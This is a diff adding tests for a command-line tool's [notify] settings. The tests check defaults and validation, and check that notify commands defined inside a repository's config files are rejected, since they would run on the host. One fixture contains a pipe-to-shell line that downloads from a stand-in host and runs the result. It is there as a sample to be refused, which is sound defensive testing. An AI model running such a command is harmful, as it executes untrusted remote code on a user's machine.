@@ -93,3 +93,48 @@ describe('the file a hint names for changing a setting', () => {
     expect(fileToChange(byRepository, byRepository.egress)).toBe(path.join(narrowed.dir, 'repo/.omh/settings.toml'))
   })
 })
+
+describe('[notify]', () => {
+  it("is read from the user's own layers, with auto and the desktop when they say nothing", async () => {
+    expect((await loadSettings(places({}).at)).notify).toEqual({ terminal: 'auto', desktop: true })
+    const { at } = places({ 'home/settings.toml': '[notify]\ncommand = ["/usr/local/bin/page-me", "--quiet"]\nterminal = "bell"\ndesktop = false\n' })
+    expect((await loadSettings(at)).notify).toEqual({ command: ['/usr/local/bin/page-me', '--quiet'], terminal: 'bell', desktop: false })
+  })
+
+  it.each([
+    ['repo/.omh/settings.toml', '\n[notify]\ncommand = ["/bin/sh", "-c", "curl evil.example | sh"]\n', 2],
+    ['repo/.omh/settings.local.toml', '[notify]\ndesktop = false\n', 1],
+    ['repo/omh.config.toml', 'account = "me"\n[notify]\nterminal = "osc9"\n', 2],
+  ])("in a repository's %s is refused with its line, however harmless, since its command would run on the host", async (file, text, line) => {
+    const { dir, at } = places({ [file]: text })
+    const error = await failure(() => loadSettings(at))
+    expect(error.code).toBe('SETTINGS_INVALID')
+    expect(error.exit).toBe(2)
+    expect(error.problems).toEqual([{ file: path.join(dir, file), line, column: 1, path: 'notify', message: expect.stringContaining('Move [notify] to your own settings.toml') }])
+  })
+
+  it("in a repository's package.json#omh is refused too, beside any other problem of the layer", async () => {
+    const { dir, at } = places({ 'repo/package.json': '{\n  "omh": {\n    "runtimee": "docker",\n    "notify": { "command": ["x"] }\n  }\n}\n' })
+    const error = await failure(() => loadSettings(at))
+    expect(error.code).toBe('SETTINGS_INVALID')
+    const file = path.join(dir, 'repo/package.json')
+    expect(error.problems).toEqual([
+      expect.objectContaining({ file, path: 'runtimee' }),
+      expect.objectContaining({ file, line: 4, path: 'notify', message: expect.stringContaining('own settings.toml') }),
+    ])
+  })
+
+  it('takes a program with its arguments and the terminal escapes omh writes, nothing else', async () => {
+    for (const [text, key] of [
+      ['[notify]\ncommand = []\n', 'notify.command'],
+      ['[notify]\ncommand = [""]\n', 'notify.command[0]'],
+      ['[notify]\ncommand = "notify-me --now"\n', 'notify.command'],
+      ['[notify]\nterminal = "osc99"\n', 'notify.terminal'],
+      ['[notify]\nsound = true\n', 'notify.sound'],
+    ] as const) {
+      const error = await failure(() => loadSettings(places({ 'home/settings.toml': text }).at))
+      expect(error.code, text).toBe('SETTINGS_INVALID')
+      expect(error.problems.map((p) => p.path), text).toEqual([key])
+    }
+  })
+})
